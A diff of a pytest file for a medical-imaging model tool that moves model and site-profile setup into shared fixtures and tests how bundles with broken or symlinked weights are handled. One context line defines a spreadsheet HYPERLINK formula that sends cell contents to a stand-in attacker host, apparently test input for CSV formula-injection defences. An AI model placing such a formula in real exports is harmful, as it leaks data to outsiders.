@@ -18,41 +18,20 @@ import sys
 from pathlib import Path
 
 import pytest
-import torch
-import yaml
 from click.testing import CliRunner
 
 from medadapt.engine.atomic import atomic_file, atomic_folder, remove_abandoned
-from medadapt.engine.card import ModelCard
 from medadapt.engine.cli import cli
 from medadapt.engine.errors import ExitCode
-from medadapt.engine.model import build_classifier, save_model
 from medadapt.engine.output import csv_cell, csv_row
 from medadapt.engine.plugins import get_plugin_host
-
-CARD = {
-    "site": "Hostile Hospital",
-    "intended_use": "tests.",
-    "classes": ["benign", "malignant"],
-    "positive_class": "malignant",
-    "preprocessing": {
-        "window": {"level": 40, "width": 400},
-        "spacing_mm": [2.0, 1.0, 1.0],
-        "patch_mode": "2d",
-        "patch_size": [24, 24],
-    },
-    "backbone": {"name": "small-cnn"},
-}
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 
 
 @pytest.fixture
-def model(tmp_path) -> Path:
-    torch.manual_seed(0)
-    registry = get_plugin_host().registry()
-    network = build_classifier(registry.create("backbones", "small-cnn", {}), "2d", 2)
-    return save_model(tmp_path / "model", network, ModelCard.model_validate(CARD))
+def model(small_model) -> Path:
+    return small_model
 
 
 @pytest.fixture(autouse=True, scope="module")
@@ -168,23 +147,10 @@ def _bundle(tmp_path: Path, model: Path) -> Path:
     return bundle
 
 
-def _profile(tmp_path: Path) -> Path:
-    document = {
-        "site": {"name": "Hostile Hospital"},
-        "intended_use": "tests",
-        "body_region": "chest",
-        "task": {"classes": ["benign", "malignant"], "positive_class": "malignant"},
-        "preprocessing": CARD["preprocessing"],
-        "backbone": {"name": "small-cnn"},
-        "acceptance": {"min_auroc": 0.5},
-    }
-    path = tmp_path / "site.yaml"
-    path.write_text(yaml.safe_dump(document))
-    return path
-
-
 @pytest.mark.parametrize("kind", ["text", "link to text", "dangling link", "link to a folder"])
-def test_a_bundle_with_broken_weights_is_refused_by_file_on_import(tmp_path, model, kind):
+def test_a_bundle_with_broken_weights_is_refused_by_file_on_import(
+    tmp_path, model, small_model_profile, kind
+):
     bundle = _bundle(tmp_path, model)
     weights = bundle / "models" / "model.pt"
     weights.unlink()
@@ -197,21 +163,23 @@ def test_a_bundle_with_broken_weights_is_refused_by_file_on_import(tmp_path, mod
         weights.symlink_to(tmp_path / "gone.pt")
     else:
         weights.symlink_to(tmp_path)
-    result = invoke("model", "import", str(bundle), "-p", str(_profile(tmp_path)), "--out",
+    result = invoke("model", "import", str(bundle), "-p", str(small_model_profile), "--out",
                     str(tmp_path / "imported"))  # fmt: skip
     named = "gone.pt" if kind == "dangling link" else "model.pt"
     refused_plainly(result, named)
     assert not (tmp_path / "imported").exists()
 
 
-def test_a_bundle_whose_weights_lie_outside_it_is_imported_with_a_note(tmp_path, model):
+def test_a_bundle_whose_weights_lie_outside_it_is_imported_with_a_note(
+    tmp_path, model, small_model_profile
+):
     bundle = _bundle(tmp_path, model)
     weights = bundle / "models" / "model.pt"
     store = tmp_path / "store"
     store.mkdir()
     weights.rename(store / "blob")
     weights.symlink_to(store / "blob")
-    result = invoke("model", "import", str(bundle), "-p", str(_profile(tmp_path)), "--out",
+    result = invoke("model", "import", str(bundle), "-p", str(small_model_profile), "--out",
                     str(tmp_path / "imported"))  # fmt: skip
     assert result.exit_code == 0, result.output
     assert "symbolic link that leaves the bundle" in result.output
